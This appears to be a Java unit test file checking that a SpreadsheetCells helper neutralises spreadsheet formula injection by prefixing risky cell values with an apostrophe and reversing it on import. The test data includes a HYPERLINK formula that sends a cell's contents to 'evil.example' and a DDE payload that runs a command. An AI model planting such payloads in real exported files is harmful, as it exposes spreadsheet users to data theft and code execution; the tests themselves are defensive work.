package org.vigia.registry;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class SpreadsheetCellsTests {

	@ParameterizedTest(name = "{0} is exported as {1}")
	@CsvSource(delimiterString = " => ", quoteCharacter = '`', textBlock = """
			=HYPERLINK("http://evil.example/?d="&A1,"Click") => '=HYPERLINK("http://evil.example/?d="&A1,"Click")
			+cmd|' /C calc'!A0 => '+cmd|' /C calc'!A0
			-2+3 => '-2+3
			@SUM(1+1) => '@SUM(1+1)
			@canal => '@canal
			'=already quoted => ''=already quoted
			''@twice => '''@twice
			Ayuntamiento de Villaverde => Ayuntamiento de Villaverde
			cultura@social.example => cultura@social.example
			https://www.youtube.com/@canal => https://www.youtube.com/@canal
			it's fine => it's fine
			'quoted but harmless => 'quoted but harmless
			a=b => a=b
			""")
	void exportsAnApostropheBeforeWhatASpreadsheetWouldRunAsAFormula(String value, String exported) {
		assertThat(SpreadsheetCells.exported(value)).isEqualTo(exported);
	}

	@ParameterizedTest(name = "{0} round-trips")
	@ValueSource(strings = { "=1+1", "+1", "-1", "@canal", "\t=1", "\r=1", "=x\nsecond line", "'", "''", "'=",
			"'=1+1", "''=1+1", "'''-1", "'plain", "''plain", "plain", "", "@", "-", "x'=1", "'\t" })
	void importsEveryExportedCellBackAsItsValue(String value) {
		var exported = SpreadsheetCells.exported(value);

		assertThat(SpreadsheetCells.imported(exported)).isEqualTo(value);
		assertThat(exported).doesNotStartWith("=").doesNotStartWith("+").doesNotStartWith("-").doesNotStartWith("@")
			.doesNotStartWith("\t").doesNotStartWith("\r");
	}

	@ParameterizedTest(name = "{0} is imported as {1}")
	@CsvSource(delimiter = '|', quoteCharacter = '`', textBlock = """
			'@canal          | @canal
			'=1+1            | =1+1
			''=1+1           | '=1+1
			'plain           | 'plain
			it's             | it's
			=1+1             | =1+1
			""")
	void takesOffOnlyTheApostropheBeforeAFormulaStart(String cell, String value) {
		assertThat(SpreadsheetCells.imported(cell)).isEqualTo(value);
	}

}
